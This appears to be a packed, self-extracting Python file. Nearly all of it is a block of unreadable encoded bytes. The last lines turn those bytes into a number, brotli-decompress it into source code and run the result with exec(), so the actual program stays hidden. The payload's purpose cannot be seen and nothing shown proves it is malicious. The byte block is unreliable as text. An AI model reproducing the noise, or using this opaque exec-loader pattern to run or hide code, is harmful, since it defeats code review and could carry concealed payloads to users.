)[7f{i\-.bL~J:Cl1G*|G#92$KmHnj=ygd@rUQIΝpo-KC!^yXbyM+Aپ%ڦ3)oey%.F{Ցj'[krM²Dߴ&a}U9ݻ<$\!0r@,I0N:!%F%6tz^=Daq*t7W_ST!ń/PȢ4kJzwܖԹ+!;,7]3Ak'Y'fBd$ISoy|mf:F~<T\"9Cd[vG1N>?X*!fVܵ`Cۘ(Tg-oLC3@ޟ.tO1"JDޔx+q'MVgFslڐ{ÀxL@#VpSˊ-0GL/H`+}ƹQT*nűX*nѩȓ4јՂ[;ORR!=slLa}ƠVtff×*ߗ(Ѷ|(¢-C@;1I87|]c1.Gvr'b(0¾יI,߾H5n8vԆZl"e+td{-:EqՋABUҀtk`f54-|#5NJA5:8;U,E*5Gڛ=$wa$;ZвsװGD@o7_R@cAZJF7Ɲت-S;ob79bWCӱ8]'&S$03hcj\	<K*cwLbEfOfEQL"ݥ6qԳ@{~IɆZ)X,ӳy)Yjl]w6.<`(VX
Pg79b0H)T8G&fMsmx4ia6aV5u|]CEE25N9zi\'V˙j)w#vCƒs=HsbK6A#r-ǿD<.ʠwz߆oYαyqDyu*aE]@e>Fjo #wňuXmoYf.JUϣAzl+1R(7fGdYzPR+ڏ2|bD_[QҎD|POdV]!g[YiU70!	Bcġ|?:/DCS5Ԇ7)v|Fw"ۈqc>ȫs)DСHQK3ހ%&>֎VS}U^p2D\j/j4/pL.'$C~ի>/jrί~)GahXPS]։Y+zC$a%A7-Բ2
GښQf%@ۻq7Z7.6fC,d+K())MZU!N+Fr?Alݬ{X3iwR-~yAQ
bTȒAns3? R$7uտS!v}֛T4=ֈAn3/FZkA<cB$Q	!%K"K)Ô`EPSN;6"yHj&~āJRm־ʓ(tTElޠƐSN)Vpo).ũ(DѠIHbF ,-R"#AepD?5Xˢ2)khG̜߻ǫٓʝ$=6u#b!q@y?ToK$Zݟ7\ܥI13'a@ԀAV2c#aw:!A&y^h;P+v>ҘחӇ;ޮu"	VvG¿CT}dQm.?+6E{Ulb:VKg0ڞ.5ؘkjG=۾@Dmk,Nم(+noϔF_m<@ǀW'u5YQwM6L+ݢU		f	h*ydHeKs~e04p%(4 ڊ29+Ml7b+NԨ`)Gp4'Pܐ{ Zú(Ciop~o͗.MaTI3	Ne.b"`t;0BN\fhk@{WXpƯۧAPcC@!AĎJ5#WxV)^Cz38NL߫rm[7PՃ(UE'͓|/{!5KL@:WV93V<6	\Y9{p%/(3dwٶ(E	͵bɘg@l*å*^7tVP~̎nDy|KvU{/i<Dsc
 [&(3UwM8~g>OW,WАfKToɹ;}8ϜS*)6pb)ܧ#
׼J3wGiT)VOZΪ$/Xz9?j-	YPNТ4H8LcLoQ-\eƧX'R`fH٦64:t^ξkګإ$ԗ iuU:8^RB4m?IEQAR8"ϙkǑz7P"
-a}gė[׫FR5{u}0lTGU
j~sgecV~ФmBͯ=BɄ7QlRf{MįZp25q/o37H@a҂1asUFٓ
v zwGGؐH1ZťWKi]҈n\e9Ƹ6MIs-vfAK&ӖaeA
P7UƙOú`B_݇@(ǖ/x۸1;
PwXщ_/VQ4.4
6la7&'}6Z	"i_?R|ŢGbkq*p߄~y\gݥIٚcL$+lՠHsE^McNi0J5&Ry!OG%eeܔƐ.5=qg7CLsՎIbs5-ċ<n7=,g$pxR,SYΡ[˃.2:î"IBAGs.A:>1>YМ6ӶXP$̔='"h#H9G]pO̮!7G?ƃtatIT*f >n<:1	jJ=r$Mؽұߝ 	˾Ґ]4hwӐG"Cl(f̴8{~:Yb3i4D,=#,S(z@qܨ1&Z,ҾaL̪ 'ƈ5C	(tv!Y4pGU.ӧd|@~90)0db?2"$؉4*Ff;tǽjbǑRFG|hhLX2olDϘw{b7^u7|f~|}P!>w;LTC{t\{	c:noP^ܗӈc@ITB!׭/LӷmQS[̛4N0uɞ$aʴ#ϲBGPpgݽ]7s	Mv! 9rHt*WPm\E	=7f`([evKʉ^w}~?yM2tGaq^7[#[tX^d'Ny=1C"ΒRSzv_5M<1*bπEz$+{i8"D(h:;Ire@gg`G~DIUϋ:c0hD<^<~G3\/56%ݜycS`l@Κҕ٤aP0E1YKY/p$'6N'&t6sY|+R,yG<r\~ҁK%I`#ZB|rvbɩX7eeYƯð@!EN)C8gi4PMnՓp/ZFi=w$^Ý^*eI)$җ+Ĭ2vz0-dH2]6#2JpT&&҂I~xR yrVg!{/Zeof2J}iI(Ӽ`ۢF^|~` +d6"9s[=.q&+i!*l|tӝ̧Hڵ;lS
a1ҥIĀ
R2J	öΧ+ oG-LRr+G_hЙKģ?7@mQD.xR$(n-Nހs8x'5z?jm1#^;;("Q.tPlsI{gΖHNHZ~!5wNUk\T?htu̇c=Ϩ_B^]zulUR'Cqۉj	*Kjf%ܓ$VKõşf5A'+cSIjl&hg:9Pexc4R;(~ / 4IǎѴ'`UFUyIlIS#W0gEŵ;Ċ>/$qnWP.Ct	86LlZ˦]זYo5Tj>/!W\iJzҩj`n?]G;QHʤoF81D5u(]i:L`kJODH(֌6!ќX6̆`Kq*"y7AGݏΗQFtԞsuȇʫ4JKU\`ЌA*L;?6z	W~R֔NʮP40{gL3V}ͧ@sN9[tĠzf+*gor0e>9Ok'̢ڏhM.֫~fn{8oT`*J3KdOøP:,aK@}
5]fFp*vxy}i9Vɲ9f,	&/l}Ƈ	zDj:7*sD]Fg)^Pf%v/͊8d2^.ޑ$`w#.«yɇiǞɝs)8%XIuM1VX}>¢ɣ;+eCeg˅F`5H1m({;daAsY^)=E`8!5ja}x 	p@x˿ύPy3O4\93C6\|_-IC3UwJ*0ؤe.)ʖރQ_4Pͪ3.Bۘ17-9WEH\0Zs8su\)B='j0jFs͵0-%]V#eː=H`'|^R=2k5	k$GdݯzE>؁)=|zC|B
t6T@˫Db6vm}uҞ~8LCPM~VwZSKnt}E	:GWp/w`[U|^wUtG^;/,(PJF*
lmϡ
Hjrzc EVя@4!DeVn(Drr#2ICδ^iPG;C~!t,,s˓Rbb1bquŸZliS;Ǉi̲i©م2Zj!JZ>Zao6sؾ(J2ϵ_SZ&kG׃Gn2bɺ?lϫGlձϿ`ġY^ҽvI$?ɌcÕ؞`[r}LDd̙wߋ4"{s*9	*bn8Cc?b
(XߍZN$#W/ѳVoA]nIe/m#Fώf]^k0Rq0q5U/DwP$:2l4ֱ&ќ@ϳSv7Pź+7VT7G%Ew~Bq)#>=PZPͨۼ<\>_/ޗV$sǻ847o}I'pG6B-N[pT~ay&/NFMV \0Y=גS;w\kveX݄jv[y|q*9qIɈ|ۺ-
-3:_y7xʝBBh+AsP'RJ5dɛK#HabWA!WtB}NЎU
(5P;jDknϿU٠q3<j!?|$м:*B,H	=@}R~=;4r,'C5øbҊ7ٍrbA@BiOOGc|Rk2&CSM"ʣ!,D0q	|=KxZE}ŗ&MocIv<t>/2tcam	;]0&ȸP,Yla&X`st1&ʦms9͔'>[|Cź׾NE%\<$Yϑ:j[6SBrro7<=d0QjK&}]IޡG(Q&J$q,\ʆͻR
*4!ktU/dKUcw
A>N!/[8{FW.(i4gT_IU"oĢm9Ը;f̒^Oz1Ї]}/]KFH^HH+yR@<)X=/<э+Qsf{88k]sh*VIQ¯"tŅ˕ǅ_,Q,jU,vxj?pD-pùʮGd,V@@Q.;ơoğ>{9S?eVk^nNoDӸNۉE5|$$|?nkU,ܭgU.D^cn֞bxo׃ɞQ˸gӍ^g>	ΣN_ckVV+؎=^hFL42W&[ςޖjECN%\Dbܣoo1(â7߉;S1g%ɏ5&)bUF@31|ٿ'\%ZD׺x[iD}_d3H:)dX4r>E&57KZa%׽DnɻړSI٢17%a<hr٥ĸ-XTHpd¡ќ.)G09NΞ[?;
"M kܜҽYfzfxq/ǎ#r1hM5ϝM$(->nǉUvh;*FM.Z[4V[anVaY4zC*ч	@:SL??+pDT@jap҄׿D~4[-:lLPCS	}PyqA,t3+%+01֫ۇwh>ݾ/}ŀ:A@߀G9&G_m8HϼcEHWAYlϛGFXO߭-&ER9^`j6\א.6}?@f+
aX|<Ȓ(b[g;ÁS:KEVI{{̄sENs}USveyڃaTھ06I{U͓Yf#xʈyaD2ɽ~ZoW`_yZD'rT2nTjTδU?%C{udv1nafTy˭2/}eǡvaE6/yxL<GZѠesŋ aB^uYlۋ6zέ X:C8Gi@uY(eM%3ylBoejfNNҥ{gs%!D.fIoH	AIS~YPCK	qcٸ$ך`B-ݒ2rjIFMY!ͼu08_\E^ $UU-֬C*}E1ΪHGMH$g\bDdр<oeȫ8NN9wac3WTmނMcSܛ2v)``!Ѽ+xTѯv1Yx>ML.k^[Իv(SL՚,rSҍ^1gasĈ-SFǸKŻ2_ڛG:V{18rօdE`!)Jjc{9r'J=|,Ñ^O7g_Ӹ9Y3lK:3>Pl^oNgOȘH,1LNAC]`_h!JE\c$Hſ-DlA}>[ZYMՁ6{g,qaT|$8sA|~r0gרqm_F6ВӋFku΃S/}tdKC۷P7xtssy9Y'xUz@!W)nyC#WjzV8˽ȇ{&ؼV܃NlCeP".2oRS/?&J;t-Q?3݊-|-ŬMnև
Xߨֺ+`;҆c`"jYm^B}YCdXLxnU{x$FLi-Px<hNX )Rֹ-/i<9=N=%;JUALHo7OΛ_]ŕ9&8j̧ٚ.\)=YwT˅4u4ӆt;P[??ۮb"W
3(ȴ}e#ypvZ/ԗQ<?zGOsPYնޒhiNUUa%?QNN<uk:	B+q5ȃXCV'Zy8I_!Zilp϶f9Uu+8e/8x~;nAƳX1h2;`? R&s4˰x$8}dBn(o84?&h2MYL!ʷ.)_(י,Z.stXdJbJ{՛9vr7xvŔhu0EM&&$֥cVsj´Bh$%jdYԵ9ob}`Xߓq#7ǻ]Й"ŸƲ>9&pۓJC9rx-#]-!֕=)3kpis"i{8LTF'MPJֵ\aNZZ:'.<b`	<XBmp1z̟@BnR[P{iN}!ո?-*RRNC9sLUU%M;CK|/]}_}rwMq7"Ԗ,fxwќӡQ*9gmrM{H`.Lg~79og6Z1ՙkRxգUޒXSq*ĶΈi{eɁ7ʖXnOI3P8)[ˡq}5G4-ڛaI2)~t;#DAƷB1^D qKq19R	ʚgުEˍmm(
r19ĚR?@ܝ*]OHPfl0ϺSp3Uanwjޫ)ÓYsX)3[i*
մXo=:`x%ȼw<Xu4J&v7&zԚtBZU-5CZە8	4u>1+S3ф]V˩[V5&|ʟ}
ӁoN6ހd%Iey$eFTf)63FR`.VŽH6Uƃłw5&0-
IcUz~~ɬ=֑_Tɍ CSj	lv؂T"HGcV3-/'0'LfJ%}WO
b2^Mב ԄyhBO+ۺ$uQ>,ڲ"n}K_*M7QoAWP2j5{i(%BS}itHo80sg>A].Fw{v2\Ij8H+9d1
xAB3J ˂ޑiWH
uN6GWCZ7ew]Q<.h
[ ^qCFǷ(14	ráۚ?2݊?N=YW3vohЍAҸgc-xbГx~F˧Nƒxϔ^t t!u`3MATs9Gtxۉ7FGY0&n)hMC~<IW]J8`!yGc!&JTqu܃҂OɏY0N|(4F6ɑM`hCU̈2;.!7H
.ߒg	͏7NhiqDHc8@b;4j>ΑzUډ>2(Gץ['z I7IssvgF&UXyec,Sy˧cq_
Lgn %9	*Ѝbv_uKruDS5y8!B[^շÜ%u=2(zXtJA]t\1;7ÇoJ^r>\Lx43rr
]~{Zsz0,PtmeהКI4hl]Sŏ1"$ŏ%,̡7ĊQG2e*H0,N\=?aho{CC6ER61TYj֓HEAxcAӧL$ez>FHPƄ_6~%0g'$j	t£Ԩ{BI&V)Ră>s]d|ӾC)]Kyл߿ȅECUA+ƻkfu6ohIgV{P`ه3ӎT`;kP2_TZ*¸ճ[!6ePˑ͹4)@xaz%բsEEE2Hy9;ͷ)̽Ϡ6>71"~ԁk;:m!2u;BpqSbaioHSӗk`QBȔ<ZnE>d2V(O4V͈Dӣmx{٩M>cػܱKŃ{]9?wٷud?W&<J>eHr<`&~;ZRs֨QeI$?;Zr\qYGqhSЙDsEB}%j
[-7M~dy?C]ȐЅSg"sxY-IkYv%8aɺ	XyTzxMސQ
a2-E.Pv&AkoL:<5%&Eʤ(I?"O#&A3ۂ˵|YjLx|'x#I0Tͤ(6`V[Й8ŊLb2,'%:2zZ^&hLcj`{x~Hl}Vj)d׮(uqt=lУ<nuې/*_եB<Z[xvcO|.K2baMiXH6tΰ͏E*Ìj`C&U(C0kEuGQ0@!wF3`6*څ_5(!4ZceƜbS0tYVo;V%Lqfzo&JZEmsTxu"3AE1kakdAXe',6)d=NOʳAq͟tƶih_,F+3̶[8;lL
$ <˄E/"5K-euPRƃTz}p%gǹu,"#muOCũ1w;doT3xiڸ$|2|3A,$59@ʬhn&9|;JqxILYV*ߎa3h'ڨ}VmB-s+5'	%OOWw]+e֑pC{G3esvY0cifGO%$Uhz+ٜgNkKlkdG4{QբxΘ.Mh?X͊,_̬Wd6RB)$KCR&r,؜@+}N[,`=-1vl`g/ƀ%xk֔	>קO>V@BV$y0(Hy؎UOά#hiMM! &61Rԡ,7vr<v_f_!otIH-ANdCLWM;''B8Oߪ{WY^I$D`V/W&&%I9(҇F'0\ϼ{P!fĚ(_O1Pvz0U0Y|h-1%	_˦"V.s;oM+tqS+0LӐүk5hUZqv	M?'qQ:f)XC3<00r%!t`ɸe6Ym}7K2pD=I{yW{#h¹VATrL>ٚ*pь]"q+<+HJ/URITq~"mWИ"A,yߣO	7Y:.rvwL7#j26S+uz/1@)qlUەc_޺Ɂm4}ŋp.,ƶ*@ہDS\֫1o*6(K<q"r/-
:E$E1oֈl.I?Us,(Hz5C߳y"tݮIj+M(;mߔd.dj'>L9֣ޏ3'n^f|]IOGAGz*#/Te_wVR!~%ʬ?ls8G1<Nݑs536a\Xt}/$7Hٸpџb/p'H{&P3L$>=Ƕ_5e?3ӿ@ҿXVXXF0VI<ɮhթDzu0]l\5&9Hlՙ9LKs~a߶k W͇֢I%CDΙQ8;_Ք-9~_ta/nJ˂ߎ$2$11=ֺqΏτ^zT%Ic׾}rJ0lHWD3b
øOϙQq/`;a،uѝ`г҃ڱnY!^7?+SAuFjБ	[O%*\cUzEKݧǩDXʱ1#q(R&uuʏB2<)làRRM@&hE$4V{*-Ve.]f['fGȆѹՄkN65a-ԁah[ݚhMxY/n%i&=NjNЖ͘iB/A?kR:][0_!#`;~DԲŢaMq)P>8cT"M!eeCAE:Sܮ:u]*(Al_,˵7STTĺm0V`=6џ$TjvSBc/*5/zѻzvvH.u8\pG0CPW$00uҵyzl
Eu2P9E4yc$?L?'а4g˲m7k	:y-GAsӖK9%CD(`op/`
[QO-VbdO(AkΓbkk=!3VؘFjPBQU(F/lP;h9D4	q>Љ,M^g~N'cОJ˒8p&<zӼ	-9ydxυ9H#h#nئq./?H	tm=ڀrBU@aCȽB[ZC]C,"zi@kG:/7ޟ.mZ"ER{U=*k,5ߌɍ5t(xs5%͑@u!Y5LVHE/ǐ:<U\JXfO:nAzZea>7Y2[TElȢmxRKv?Шs{Ȍ?1nA̒_wa9DWqB-?+كnMCٔ*5EEVpΏr28pK\քN/s(M>"wxWΗ(@Fŵs9&)yJ~99Pً(+']_KSHՑH+K50̲7JTn|`Q:SzmZ>[75tq|O$c-
vPSx8M=ЇbqG|YpXpga?~8~Tk`$KoLtw1ck7V]J=ϗk@/v-{U
RoZ[4onx
TŻ[ټX9nBf~3JRxޓ}Q<Í!ArQ<Â2g;Iwsqҹ3-@6<vh##2Z=ܘg=*1mդ=|إ-_%{#%tu\,bƕ.;K}^.`d+B`MSN}zk5V3WI*,ʽXj(͓cbacǶKضceР3^+jMUJ&]Fv/Kw4pO̇|vOy4rݴfi=Y҆iݹs0clfWh]"4JXm,6VbS1	V~z>1&ABNz̞I
(eϳj[֜-F)۬ة^2]$ZI}Ӎb:wp" #/%g2ʎ\Xqv$z}uxлywXyfy`0mzi5ho
>\}ۣ8`n":^%rYrv/8֥EU4:(ER(J%eDS&@ILϷwݔ)ol0oҋhǡl7o$#Ȼe4VED6v@SurNb֬ZmB6Qhw6Ql$}!R4Ԫн5B-5X.k^N|ñq6g
oAǚ+mmPQ٠ˉZ®k^pRSppHl7KZՇN9Ō;8]|ȫZX,8yBGA
<Ț,9$\&©>5+98ZnܷτkjSm
jCч}Çócde|N])ڇHDMӟ=ΨELܕɘ,wpϫG*wNSDqSi%7?_?mTȆ#%EObAXګȽ'.^h^L9),hQ	zLc\Jg8f"R*V|O]>$هan\̙.
6ؾ\iܽмϬ&NUe4@!)>!n%W,@fgcf[«7Ш9VD956$LBJC{҉~̊_íɴ`*>2vX^68z&_/$
SB%Okd֭zFJrm_izV˳4vxL:p$xj]U*q,3?=yʯR-?5_p&r	O0{+??_
Zy,fd"J9dl
gr	WQ.o"mX)ø2GR\TF+w	Yp3R?cur`U5za),
3C޹5",Ie(ZrXE+ǰ̱ifITDyD}Fu5Vǭ)=j~~ՄϬLD${VYpR`ئj7%^ɣs-]آҋŰxoxO^߰|Xo
ڃ$Fc02 LHQGפYcӿ~vau4uvn7sCwɦڙ"xΐ$lP4bNpÛ@HfS`pfrU>`[1" 7Áͳ
jmn,W^  VRLƀiqbtpF9gdN'jKCާ\%q.V]Bc˳t&4/CFm
X|§gտ^كz{ӭy޳(o!G"̋ &ɿ۪uT1%L&T̖AjGqOtzݜ$OpQkiK b $,HА؃ǦXo	ЦK+s7ӪCSDdPň:04!S'q&_ X'{)-ji
ntIq7@=lbxQB>2=g_<ԵVAH[Bf{rTWS@E
J؞4Cјiƨ,Y]H֪6D0@݆9R޺І3]aܯF}76ʢ`Xt*)q8+ib$zx
b^1_O$[rRù_pB#"3=dv̷1Kڄ#baFa~`#m1Y	EP!{{7ŎSn{t	Zh[҂ɓ׾`,ǒձ-zaolwLkW{5cӌ@WX}oΓ	b#=Kֹ__g>'X		m$[jԬ6~$f}}ӕ{ޫvX?\1UMRt0:UX(qp0+>HuK<Fs5ۧ*=-:%4C|,[msI

ӼS(bQvq(9j~͜΋y^[̞PQ*gײ}?Ѐub|5(OV|7܏vە^_߃Vgn7P7F]aʾ*s|N- )eP72'7֓rJ%lrkmUy5~$(@Xd,gIeWФbIGA4D(M_,ܯRxwAE2g֬5NTmIbvF1t	Kz5nB{#B˘7Vqϼ?_WV:"*VSypsnԡgO׭Seh~n?_[S2ͩ~krU{5ӉA>0ӂ5pRuc~),Z,X<>5H1x[=KyX٫h7ߋLv`h)ȴD[yXgҶuv˟el%lbhscV
d#Ov!|ڲZɭEe\!jRrcB'QXN2 X0Ԡ$_JWֻǈd_͓Y0tt)!%VD('<m]:} UQ?weip"s%>*Moxܠ*M@]P$k	ۘP{sNM݀<;_pN2P2ŹR|C8gD`73MOw0$z"SH9PȻ[v
PjsΖ+mv]ɭ)x~ZD_ʊŧֈzZQŔݩTŀDְ8n$[Myʙ}G-;~ך4WSlUn2e֧M&	cx_d|Ǹ=<AyCڴPfxykݥ'}ʁ3<i8#u\oPwO0T,D]m4owH(HvK5m~3XE'XeN-
=^FfJ_j^V)ٚɬAŮ]Eg56DZpõфo¸mPeD{(QD"y;Qh]kp4ݽdV<{Syu#ן՜Pש+lh%ƀhL*t٭'DB
Wryb7z!{_֍?g¿fkMqՓO21&]g7&Q~ׂsgۋu1&-,ԿDD,V''':
 o=ord(c)
 for x in([o-1-(o>13)],[o-128,126])[o>127]:n+=x*b;a,b=b,126*b+1920*a
s=brotli.decompress(n.to_bytes(25585)).decode()
import linecache
linecache.cache['<string>']=0,None,s.splitlines(1),0
exec(s)
